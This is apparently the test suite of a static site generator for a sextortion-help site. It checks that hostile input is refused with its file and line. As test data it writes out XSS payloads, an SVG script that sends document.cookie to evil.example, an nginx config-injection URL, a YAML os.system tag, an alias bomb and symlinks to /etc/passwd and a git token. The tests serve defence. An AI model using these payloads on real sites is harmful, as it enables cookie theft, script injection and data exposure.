"""Hostile or mistaken input: refused with the file, the line and what to do, never a traceback,
and nothing half-built is published."""

from __future__ import annotations

import base64
import hashlib
import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conftest import ROOT
from conftest import page as page_tree
from sitegen import page_html
from sitegen.cli import CRASH_LOG, main
from sitegen.host_references import refused_scripts
from sitegen.hosting import nginx_snippet
from sitegen.localhost import NGINX
from sitegen.problems import InputError
from sitegen.yamlsource import load_yaml


def _run(project: Path, capsys: pytest.CaptureFixture, *args: str) -> tuple[int, str]:
    code = main(["--root", str(project), *args])
    captured = capsys.readouterr()
    out = captured.out + captured.err
    assert "Traceback" not in out
    return code, out


def _add_page(project: Path, name: str, body: str) -> Path:
    page = project / "docs" / "en" / name
    page.write_text(
        f"---\ntitle: Test\ndescription: A page made by a test.\n---\n\n# Test\n\n{body}\n", encoding="utf-8"
    )
    nav = project / "mkdocs.yml"
    nav.write_text(nav.read_text(encoding="utf-8").replace("  - about.md\n", f"  - about.md\n  - {name}\n"))
    return page


# ---------------------------------------------------------------- page HTML

HOSTILE_HTML = [
    ("raw script", "Hello <script>alert(1)</script> there.", "<script>"),
    ("event handler", '<img src="x.png" alt="x" onerror="alert(1)">', 'onerror="alert(1)" on <img>'),
    ("javascript link", "[Click](javascript:alert(1))", 'href="javascript:alert(1)" on <a>'),
    ("data link", "[Open](data:text/html;base64,PHNjcmlwdD4=)", 'href="data:text/html;base64,PHNjcmlwdD4=" on <a>'),
    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>', 'href="vbscript:msgbox(1)" on <a>'),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe>"),
    ("object", '<object data="x.swf"></object>', "<object>"),
    ("embed", '<embed src="x.swf">', "<embed>"),
    ("form", '<form action="https://evil.example"><input name="pw"></form>', "<form>"),
    ("style attribute", '<p style="position:fixed;top:0">Fake notice</p>', 'style="position:fixed;top:0" on <p>'),
    ("style element", "<style>body{display:none}</style>", "<style>"),
    ("attr_list handler", 'Text\n{: onclick="alert(1)" }', 'onclick="alert(1)" on <p>'),
    ("svg onload", '<svg onload="alert(1)"><circle r="1"/></svg>', "<svg>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"),
    ("base tag", '<base href="https://evil.example/">', "<base>"),
    ("data image", '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">', "src="),
    ("mixed-case scheme", '<a href="JaVaScRiPt:alert(1)">x</a>', 'href="JaVaScRiPt:alert(1)" on <a>'),
    ("bidi override", "Call 1-800-\u202e9022-658\u202c now.", "U+202E"),
    ("fake exit button", '<a class="sg-exit__button" href="https://evil.example/">Exit</a>', 'class="sg-exit__button"'),
    ("theme's toggle id", "## Menu {: #__drawer }", 'id="__drawer" on <h2>'),
    ("site's own id", '<span id="sg-exit-status">You have left</span>', 'id="sg-exit-status" on <span>'),
]


@pytest.mark.parametrize(("name", "body", "removed"), HOSTILE_HTML, ids=[c[0] for c in HOSTILE_HTML])
def test_page_html_outside_the_allow_list_is_removed_and_named(name, body, removed):
    import markdown

    html = markdown.markdown(body, extensions=["attr_list"])
    cleaned, found = page_html.clean(html)
    assert any(removed in item.what for item in found), found
    _, again = page_html.clean(cleaned)
    assert again == []


@pytest.mark.parametrize(
    ("body", "removed"),
    [HOSTILE_HTML[0][1:], HOSTILE_HTML[2][1:], HOSTILE_HTML[-3][1:]],
    ids=["script", "javascript", "fake exit button"],
)
def test_what_the_allow_list_removes_stops_the_build_with_its_line(project, capsys, body, removed):
    page = _add_page(project, "evil.md", f"Some text.\n\n{body}\n")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    line = next(i for i, x in enumerate(page.read_text().splitlines(), 1) if body[:12] in x)
    assert f"docs/en/evil.md:{line}: the page's HTML has {removed}" in out
    assert out.count("docs/en/evil.md") == 1  # once, not once per language
    assert not (project / "site").exists()


def test_allowed_html_passes_unchanged():
    html = (
        '<h2 id="a">Title</h2><p>Text with <a href="https://example.org/">a link</a>, <a href="tel:+18005551234">'
        'a number</a> and <em>emphasis</em>.</p><div class="admonition warning"><p class="admonition-title">'
        'Note</p><p>Careful.</p></div><ol start="3"><li>Three</li></ol>'
    )
    cleaned, removed = page_html.clean(html)
    assert removed == [] and cleaned == html


# ---------------------------------------------------------------- one id, two parts of a page

REPEATED_IDS = [
    # A reader in Nunavut taps "Nunavut" in the list of provinces and lands on the editor's heading.
    ("region anchor given", "## Help in the North {: #region-ca-nu }", "## Help in the North", "region-ca-nu"),
    # Innocent words: the heading's id, made from them, is the contacts list's own heading's.
    ("heading words", "## Police by region", "## Police by region", "police-by-region"),
    ("id in the page's HTML", '<p id="contact-ca-cybertip">Tips</p>', '<p id="contact', "contact-ca-cybertip"),
    # A heading whose words would make the id, but given one of its own, is not the one named.
    ("own id kept", '## Region CA NU {: #north }\n\n<p id="region-ca-nu">x</p>', '<p id="region', "region-ca-nu"),
]


@pytest.mark.parametrize(("name", "text", "needle", "id_"), REPEATED_IDS, ids=[c[0] for c in REPEATED_IDS])
def test_an_id_the_contacts_page_already_has_stops_the_build_at_its_line(project, capsys, name, text, needle, id_):
    page = project / "docs" / "en" / "get-help.md"
    source = page.read_text(encoding="utf-8")
    page.write_text(source.replace("## Police and national services", f"{text}\n\n## Police and national services", 1))
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    line = next(i for i, x in enumerate(page.read_text(encoding="utf-8").splitlines(), 1) if needle in x)
    assert f'docs/en/get-help.md:{line}: more than one part of the page has the id "{id_}"' in out
    assert out.count(f'the id "{id_}"') == 1  # once, however many languages show the page
    assert not (project / "site").exists()


@pytest.mark.parametrize(
    ("placeholder", "id_"),
    [("[[contact ca-cybertip]]", "contact-ca-cybertip"), ("[[infographic dont-take-that-photo]]", "sg-infographic-")],
)
def test_a_card_or_infographic_twice_on_a_page_is_named_at_its_first_line(project, capsys, placeholder, id_):
    page = _add_page(project, "tips.md", f"Call us.\n\n[[contacts]]\n\n{placeholder}\n\nAgain:\n\n{placeholder}")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    line = next(i for i, x in enumerate(page.read_text(encoding="utf-8").splitlines(), 1) if placeholder in x)
    assert f'docs/en/tips.md:{line}: more than one part of the page has the id "{id_}' in out
    assert not (project / "site").exists()


# ---------------------------------------------------------------- the site's own places

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c636000000200"
    "0154a24f5d0000000049454e44ae426082"
)
SITE_PLACES = [
    # A page here was lost under the printable handout of the same name, without a word.
    ("handout/ca-nu.md", "is in handout/, a folder the site makes itself"),
    # The French pages go in fr/: this stopped the build with the generator's crash message.
    ("fr/index.md", "is in fr/, the name of a language's folder on the site"),
    ("fr/photo.png", "is in fr/, the name of a language's folder on the site"),
    ("assets/sitegen.md", "is in assets/, a folder the site makes itself"),
    ("es/index.md", "is in es/, the name of a language's folder on the site"),
    # It replaced the error page that leads a lost reader to help, in every language.
    ("404.md", "is the site's own error page"),
]


@pytest.mark.parametrize(("rel", "words"), SITE_PLACES, ids=[c[0] for c in SITE_PLACES])
def test_a_page_or_image_in_a_place_the_site_makes_itself_is_refused(project, capsys, rel, words):
    path = project / "docs" / "en" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if rel.endswith(".png"):
        path.write_bytes(PNG)
    else:
        _add_page(project, "about-us.md", "Text.")
        path.write_text("---\ntitle: Pay\ndescription: A fake page.\n---\n\n# Pay\n\nCall 555-0100.\n")
        config = project / "mkdocs.yml"
        config.write_text(config.read_text(encoding="utf-8").replace("  - about-us.md\n", f"  - {rel}\n"))
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    assert f"docs/en/{rel}: {words}" in out
    assert "send it to whoever" not in out
    assert not (project / "site").exists()


def test_new_page_will_not_make_the_error_page(project, capsys):
    code, out = _run(project, capsys, "new-page", "404", "--title", "Lost?")
    assert code == 1
    assert "docs/en/404.md: is the site's own error page: pick another name" in out
    assert not (project / "docs" / "en" / "404.md").exists()


# ---------------------------------------------------------------- files outside the project


def test_a_link_to_a_file_outside_the_project_is_refused_by_name(project, capsys):
    (project / "docs" / "en" / "passwd.txt").symlink_to("/etc/passwd")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    assert "docs/en/passwd.txt: is a link to /etc/passwd, outside docs/" in out
    assert not (project / "site").exists()


def test_a_link_to_the_projects_own_secrets_or_from_the_overrides_is_refused(project, capsys):
    """Inside the project is not enough: its .git/config holds CI's access token. The overrides'
    files other than templates are published too."""
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
    (project / "docs" / "en" / "notes.txt").symlink_to("../../.git/config")
    (project / "overrides" / "hostname.txt").symlink_to("/etc/hostname")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    assert f"docs/en/notes.txt: is a link to {(project / '.git' / 'config').resolve()}, outside docs/" in out
    assert "overrides/hostname.txt: is a link to /etc/hostname, outside overrides/" in out
    assert not (project / "site").exists()


def test_a_cache_folder_that_is_a_link_is_not_used(project, tmp_path, capsys):
    """A link committed as .cache/ would have the build write its cache, and delete week-old gzip
    copies, wherever it points: the build makes everything again instead."""
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "sitegen" / "gzip").mkdir(parents=True)
    old = elsewhere / "sitegen" / "gzip" / "backup.tar.gz"
    old.write_bytes(b"someone else's file")
    os.utime(old, (0, 0))
    (project / ".cache").symlink_to(elsewhere)
    code, _ = _run(project, capsys, "build", "--no-posters")
    assert code == 0
    assert (project / "site" / "index.html.gz").is_file()
    assert [p.name for p in elsewhere.rglob("*") if p.is_file()] == ["backup.tar.gz"]


def test_a_link_inside_its_folder_is_fine(project, capsys):
    (project / "docs" / "en" / "drawing.svg").write_text(DRAWING, encoding="utf-8")
    (project / "docs" / "en" / "drawing-copy.svg").symlink_to("drawing.svg")
    code, out = _run(project, capsys, "check")
    assert "drawing" not in out


# A plain drawing: a gradient and a shape used by reference, a title, a style.
DRAWING = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
  <title>A shield</title>
  <style>.s { stroke: #1d3a5f; }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>
    <path id="p" d="M1 1h8v8z"/></defs>
  <use xlink:href="#p" class="s" fill="url(#g)"/>
  <use href="#p" style="fill: url('#g')"/>
</svg>
"""
HOSTILE_SVG = [
    ("script", '<script>fetch("https://evil.example/?" + document.cookie)</script>', "<script>: is not part of"),
    ("handler", '<rect width="1" height="1" onload="alert(1)"/>', "<rect onload>: runs a script"),
    ("link", '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>', "<a>: is not part of"),
    ("outside use", '<use href="https://evil.example/x.svg#p"/>', "<use href>: leads out of the image"),
    (
        "outside paint",
        '<rect width="1" height="1" fill="url(https://evil.example/t)"/>',
        "<rect fill>: fetches another",
    ),
    ("import", "<style>@import url(https://evil.example/s.css);</style>", "<style>: fetches another file"),
    (
        "page inside",
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">Pay</p></foreignObject>',
        "<foreignObject>",
    ),
]


def test_only_pages_and_images_are_published_from_docs(project, capsys):
    """Anything else in docs/ would go on the site as it is: a page of the attacker's own, with a
    script from the site's address (which its policy allows). Refused by name. Hidden files (a
    Mac's .DS_Store, a .htaccess that would reconfigure Apache) are never published, in no
    language's folder; a plain SVG drawing is published."""
    folder = project / "docs" / "en"
    (folder / "pay.html").write_text('<h1>Pay here</h1><script src="pay.js"></script>', encoding="utf-8")
    (folder / "pay.js").write_text("location = 'https://evil.example/'", encoding="utf-8")
    (folder / ".htaccess").write_text("Header unset Content-Security-Policy\n", encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    for name in ("pay.html", "pay.js"):
        assert f"docs/en/{name}: only pages (.md) and their images" in out
    assert ".htaccess" not in out
    assert not (project / "site").exists()
    for name in ("pay.html", "pay.js"):
        (folder / name).unlink()
    (folder / "drawing.svg").write_text(DRAWING, encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 0, out
    assert (project / "site" / "drawing.svg").read_text(encoding="utf-8") == DRAWING
    assert (project / "site" / "fr" / "drawing.svg").is_file()  # untranslated: the English one
    # The one .htaccess is the build's own, at the root, with the site's headers.
    assert [p.relative_to(project / "site").as_posix() for p in (project / "site").rglob(".htaccess")] == [".htaccess"]
    assert "Header unset" not in (project / "site" / ".htaccess").read_text(encoding="utf-8")


@pytest.mark.parametrize(("name", "part", "words"), HOSTILE_SVG, ids=[c[0] for c in HOSTILE_SVG])
def test_an_svg_image_or_logo_that_is_more_than_a_drawing_is_refused_with_its_line(project, capsys, name, part, words):
    """Opened on its own, on a host that sends no security headers, an SVG is a page of the site."""
    svg = DRAWING.replace("</svg>", f"  {part}\n</svg>")
    (project / "docs" / "en" / "drawing.svg").write_text(svg, encoding="utf-8")
    (project / "data" / "logo.svg").write_text(svg, encoding="utf-8")
    settings = project / "data" / "site.yml"
    settings.write_text(settings.read_text(encoding="utf-8") + "branding:\n  logo: logo.svg\n", encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    line = svg.splitlines().index(f"  {part}") + 1
    assert f"docs/en/drawing.svg:{line}: {words}" in out
    assert f"data/logo.svg:{line}: {words}" in out
    assert not (project / "site").exists()


# ---------------------------------------------------------------- site_url and server configuration

BAD_SITE_URLS = [
    "https://example.org/a b/",
    "https://example.org/x;}location/{return 301 https://evil.example;}/",
    'https://example.org/x">',
    "https://example.org/help/?q=1",
    "https://user:pw@example.org/",
    "https://exa mple.org/",
    "http://example.org/",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("site_url", BAD_SITE_URLS)
def test_a_dangerous_site_url_is_refused_before_anything_is_written(project, capsys, site_url):
    code, out = _run(project, capsys, "build", "--no-posters", "--site-url", site_url)
    assert code == 1 and "--site-url:" in out
    assert not (project / "site").exists() and not (project / "site.nginx.conf").exists()
    settings_file = project / "data" / "site.yml"
    text = settings_file.read_text(encoding="utf-8").replace(
        "# site_url: https://example.org/", f"site_url: '{site_url}'"
    )
    settings_file.write_text(text, encoding="utf-8")
    code, out = _run(project, capsys, "check")
    line = next(i for i, x in enumerate(text.splitlines(), 1) if x.startswith("site_url:"))
    assert code == 1 and f"data/site.yml:{line}: site_url:" in out


def test_nginx_accepts_the_snippet_for_every_safe_path(tmp_path):
    for path in ("/", "/sextortion/", "/help-2_x.y~/deep/"):
        snippet = tmp_path / "site.nginx.conf"
        snippet.write_text(nginx_snippet(f"https://example.org{path}", ["en", "fr"], "en"), encoding="utf-8")
        conf = tmp_path / "nginx.conf"
        conf.write_text(
            f"pid {tmp_path}/nginx.pid; error_log {tmp_path}/error.log; events {{}}\n"
            f"http {{ access_log off; server {{ listen 127.0.0.1:1; root {tmp_path}; include {snippet}; }} }}\n",
            encoding="utf-8",
        )
        done = subprocess.run([NGINX, "-t", "-p", str(tmp_path), "-c", str(conf)], capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        assert f"location ^~ {path} {{" in snippet.read_text()


# ---------------------------------------------------------------- YAML


def _break_contacts(project: Path, old: str, new: str) -> tuple[Path, str]:
    path = project / "data" / "contacts.yml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")
    return path, text


YAML_CASES = [
    ("duplicate key", "    region: CA\n", "    region: CA\n    region: CA-ON\n", "region: CA-ON", "is written twice"),
    ("alias", "    region: CA\n", "    region: &r CA\n    audience: *r\n", "audience: *r", "uses an alias"),
    ("tag", "    region: CA\n", "    region: !!python/name:os.system CA\n", "region: !!python", "has a tag"),
    ("NUL byte", "      en: Cybertip.ca\n", "      en: Cyber\x00tip.ca\n", "Cyber", "U+0000"),
    ("bidi override", "      en: Cybertip.ca\n", "      en: Cyber\u202etip.ca\n", "Cyber", "U+202E"),
    ("impossible date", "    checked: 2026-11-27\n", "    checked: 2026-02-30\n", "checked: 2026-02-30", "date"),
    ("space in a host", "url: https://www.cybertip.ca\n", "url: https://www.cyber tip.ca\n", "cyber tip", "space"),
]


@pytest.mark.parametrize(("name", "old", "new", "on_line", "words"), YAML_CASES, ids=[c[0] for c in YAML_CASES])
def test_yaml_hazards_are_named_with_their_line(project, capsys, name, old, new, on_line, words):
    path, text = _break_contacts(project, old, new)
    code, out = _run(project, capsys, "build", "--no-posters")
    line = next(i for i, x in enumerate(text.splitlines(), 1) if on_line in x)
    assert code == 1
    assert any(f"data/contacts.yml:{line}:" in x and words in x for x in out.splitlines()), out
    assert not (project / "site").exists()


def test_an_alias_bomb_is_refused_before_it_is_expanded(tmp_path):
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
    )
    path = tmp_path / "bomb.yml"
    path.write_text(bomb, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        load_yaml(path)
    assert {p.line for p in caught.value.problems} == set(range(2, 10))


def test_norwegian_is_a_language_not_false(project, capsys):
    settings_file = project / "data" / "site.yml"
    text = settings_file.read_text(encoding="utf-8").replace("languages: [en, fr,", "languages: [en, no, fr,")
    settings_file.write_text(text, encoding="utf-8")
    code, out = _run(project, capsys, "check")
    assert "got False" not in out and "False" not in out
    assert "data/strings/no.yml" in out and "sitegen add-language" in out


# ---------------------------------------------------------------- no traceback, ever


def test_a_folder_without_mkdocs_yml_is_one_line(tmp_path):
    done = subprocess.run(
        [str(ROOT / ".venv" / "bin" / "sitegen"), "check"], cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert f"{tmp_path} has no mkdocs.yml" in done.stderr


def test_an_unexpected_failure_is_one_line_and_a_log(project, capsys, monkeypatch):
    import sitegen.build

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(sitegen.build, "build_site", broken)
    code, out = _run(project, capsys, "build")
    assert code == 2
    assert "sitegen build stopped: RuntimeError: the disk is full" in out
    assert f"The full log is in {project / CRASH_LOG}" in out
    assert "Traceback" in (project / CRASH_LOG).read_text(encoding="utf-8")


# ---------------------------------------------------------------- random input (Hypothesis)

_yaml_text = st.text(alphabet=st.sampled_from(list("abc:-[]{}&*!|>'\"#\n \t012.,?%@`\u00e9\u202e\x00")), max_size=200)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=_yaml_text)
def test_random_yaml_is_read_or_refused_with_a_problem(tmp_path, text):
    path = tmp_path / "random.yml"
    path.write_text(text, encoding="utf-8")
    try:
        load_yaml(path)
    except InputError as exc:
        assert exc.problems and all(p.file == path for p in exc.problems)


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=300))
@example(text="<HTML")  # lxml finds no element in it at all (hypothesis found it)
def test_random_page_html_is_cleaned_without_error(text):
    cleaned, removed = page_html.clean(text)
    again, nothing = page_html.clean(cleaned)
    assert nothing == [] and isinstance(removed, list)


# ---------------------------------------------------------------- pages: front matter, placeholders, names

PAGE_CASES = [
    ("unclosed quote", '---\ntitle: "About us\ndescription: x\n---\n\n# About\n', 2, "not valid YAML"),
    ("no closing ---", "---\ntitle: About\n\n# About\n\nText.\n", 1, "no closing --- line"),
    ("title as a list", "---\ntitle:\n  - About\n  - Us\n---\n\n# About\n", 2, "title: "),
    ("unknown field", "---\ntitle: About\ntitel: About\n---\n\n# About\n", 3, "titel: is not a field here"),
    ("sources not addresses", "---\ntitle: About\nsources:\n  - cybertip\n---\n\n# About\n", 4, "sources[0]:"),
    ("two ids", "---\ntitle: About\n---\n\n# About\n\nCall [[phone a b]] now.\n", 7, "[[phone a b]]"),
    ("missing bracket", "---\ntitle: About\n---\n\n# About\n\nCall [[phone ca-cybertip] now.\n", 7, "[[phone"),
]


@pytest.mark.parametrize(("name", "text", "line", "words"), PAGE_CASES, ids=[c[0] for c in PAGE_CASES])
def test_a_malformed_page_is_named_with_its_line(project, capsys, name, text, line, words):
    (project / "docs" / "en" / "about.md").write_text(text, encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    assert any(x.strip().startswith(f"docs/en/about.md:{line}:") and words in x for x in out.splitlines()), out
    assert not (project / "site").exists()


def test_a_page_that_is_not_utf8_is_named_with_its_line(project, capsys):
    (project / "docs" / "en" / "about.md").write_bytes(b"---\ntitle: About\n---\n\n# About\n\nCaf\xe9\n")
    code, out = _run(project, capsys, "check")
    assert code == 1 and "docs/en/about.md:7: is not UTF-8 text" in out


@pytest.mark.parametrize("name", ["Talk to a parent.md", "café.md"])
def test_a_page_file_name_with_spaces_or_accents_is_refused(project, capsys, name):
    (project / "docs" / "en" / name).write_text("---\ntitle: A page\n---\n\n# A page\n", encoding="utf-8")
    code, out = _run(project, capsys, "check")
    assert code == 1 and f"docs/en/{name}: the file name has a space, a capital or an accent" in out


def test_a_menu_entry_for_a_missing_page_is_named_once_with_its_line(project, capsys):
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8").replace("  - about.md\n", "  - about.md\n  - gone.md\n")
    config.write_text(text, encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    line = next(i for i, x in enumerate(text.splitlines(), 1) if "gone.md" in x)
    assert code == 1 and out.count(f"mkdocs.yml:{line}: nav: 'gone.md' is not a page in docs/en/") == 1


def test_broken_yaml_in_mkdocs_yml_is_named_once_with_its_line(project, capsys):
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("theme:\n", "theme: [\n", 1), encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1 and out.count("mkdocs.yml:") == 1 and "not valid YAML" in out


# ---------------------------------------------------------------- phone numbers

PHONE_CASES = [
    ("premium rate", "      - number: 416-808-2222\n", "      - number: 1-900-555-0199\n", "premium-rate"),
    ("invisible character", "      - number: 416-808-2222\n", "      - number: 416-808-\u200b2222\n", "invisible"),
]


@pytest.mark.parametrize(("name", "old", "new", "words"), PHONE_CASES, ids=[c[0] for c in PHONE_CASES])
def test_numbers_no_help_line_uses_are_refused(project, capsys, name, old, new, words):
    path, text = _break_contacts(project, old, new)
    code, out = _run(project, capsys, "check")
    line = next(i for i, x in enumerate(text.splitlines(), 1) if new.strip() in x)
    assert code == 1 and f"data/contacts.yml:{line}: contacts[" in out and words in out


def test_a_number_of_another_country_is_shown_for_dialling_from_anywhere(project, capsys):
    _break_contacts(project, "      - number: 416-808-2222\n", "      - number: 020 7946 0123\n")
    path = project / "data" / "contacts.yml"
    path.write_text(path.read_text(encoding="utf-8").replace("020 7946 0123", "+44 20 7946 0123"), encoding="utf-8")
    code, out = _run(project, capsys, "check")
    assert "belong to another country than CA" in out and "ca-on-toronto-police: +44 20 7946 0123" in out
    from sitegen.data import load_site_data

    phone = next(c for c in load_site_data(project).contacts if c.id == "ca-on-toronto-police").phones[0]
    assert phone.dial.display == "+44 20 7946 0123" and phone.dial.uri == "tel:+442079460123"


def test_a_setting_mkdocs_refuses_is_named_once_with_its_line(project, capsys):
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8").replace("  name: material\n", "  name: materia\n")
    config.write_text(text, encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    line = next(i for i, x in enumerate(text.splitlines(), 1) if x.startswith("theme:"))
    assert code == 1 and out.count(f"mkdocs.yml:{line}: theme: Config value 'theme'") == 1, out


def test_a_setting_that_adds_a_script_the_policy_refuses_stops_the_build(project, capsys):
    """Material's analytics, as its documentation has a deployer add it: the browser would refuse
    its inline script (and so make no request), but the site runs no script but its own, so the
    build says which setting to take out instead of publishing pages with a refused script."""
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(
        text.replace("\nextra:\n", "\nextra:\n  analytics:\n    provider: google\n    property: G-X\n", 1)
    )
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 1
    assert "holds a script that its own security policy refuses: 404.html (and 10 other pages): " in out
    assert '<script id="__analytics">' in out and "`extra: analytics:`" in out
    assert not (project / "site").exists()


def test_the_sites_name_and_description_are_text_wherever_the_theme_prints_them(project, capsys):
    """The theme prints the site's name into attributes without escaping it: a quote in it must
    not open an attribute of its own, nor a < an element."""
    name = 'Help" onfocus="alert(1)" autofocus x="<b>'
    settings = project / "data" / "site.yml"
    text = settings.read_text(encoding="utf-8")
    text = text.replace("  en: Sextortion help\n", f"  en: '{name}'\n", 1)
    settings.write_text(text.replace("description:\n  en: ", "description:\n  en: <i>x</i> ", 1), encoding="utf-8")
    code, out = _run(project, capsys, "build", "--no-posters")
    assert code == 0, out
    tree = page_tree(project / "site" / "index.html")
    assert tree.xpath("//*[@onfocus or @autofocus]") == []
    assert tree.xpath("//body//b | //head//i") == []
    assert tree.xpath("//a[contains(@class, 'md-logo')]/@aria-label")[0] == name
    assert tree.findtext(".//title").endswith(" - " + name)


def test_only_the_scripts_a_page_allows_by_hash_run_and_data_is_not_a_script(tmp_path):
    """An inline script counts unless its type is data (JSON); an empty type, a module or a
    data-type attribute still runs."""
    allowed = "document.documentElement.classList.replace('no-js', 'js');"
    digest = base64.b64encode(hashlib.sha256(allowed.encode()).digest()).decode()
    policy = f"default-src 'none'; script-src 'self' 'sha256-{digest}'"
    scripts = [
        f"<script>{allowed}</script>",
        '<script type="application/json">{"a": 1}</script>',
        '<script type="">alert(1)</script>',
        '<script type="module" id="m">alert(2)</script>',
        '<script data-type="application/json">alert(3)</script>',
    ]
    head = f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
    (tmp_path / "index.html").write_text(f"<html><head>{head}</head><body>{''.join(scripts)}</body></html>")
    assert refused_scripts(tmp_path) == [
        "index.html: <script> alert(1)",
        'index.html: <script id="m">',
        "index.html: <script> alert(3)",
    ]


_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=24))
_value = st.recursive(
    _scalar,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["en", "fr", "x", "number"]), inner),
    max_leaves=12,
)
_FIELDS = ["id", "kind", "region", "name", "phones", "url", "source", "source_kind", "checked", "also_seen", "hours"]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(contacts=st.lists(st.dictionaries(st.sampled_from(_FIELDS), _value, max_size=8), max_size=3))
def test_random_contacts_are_a_model_or_the_projects_own_problem(tmp_path, contacts):
    import yaml

    from sitegen.data import _validate
    from sitegen.models import ContactsFile

    path = tmp_path / "contacts.yml"
    path.write_text(yaml.safe_dump({"contacts": contacts}, allow_unicode=True), encoding="utf-8")
    context = {"languages": ["en", "fr"], "default_language": "en", "country": "CA"}
    try:
        _validate(load_yaml(path), ContactsFile, context)
    except InputError as exc:
        assert exc.problems and all(p.file == path for p in exc.problems)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(alphabet=st.sampled_from(list("-[]:\"' \ntile#\u00e9\x00\u202e")), max_size=120))
def test_random_pages_are_read_or_named_with_a_problem(tmp_path, text):
    from sitegen.directives import malformed
    from sitegen.pages import front_matter_problems

    path = tmp_path / "page.md"
    path.write_text("---\n" + text, encoding="utf-8")
    for problem in front_matter_problems(path):
        assert problem.file == path and problem.message
    assert isinstance(malformed(text), list)
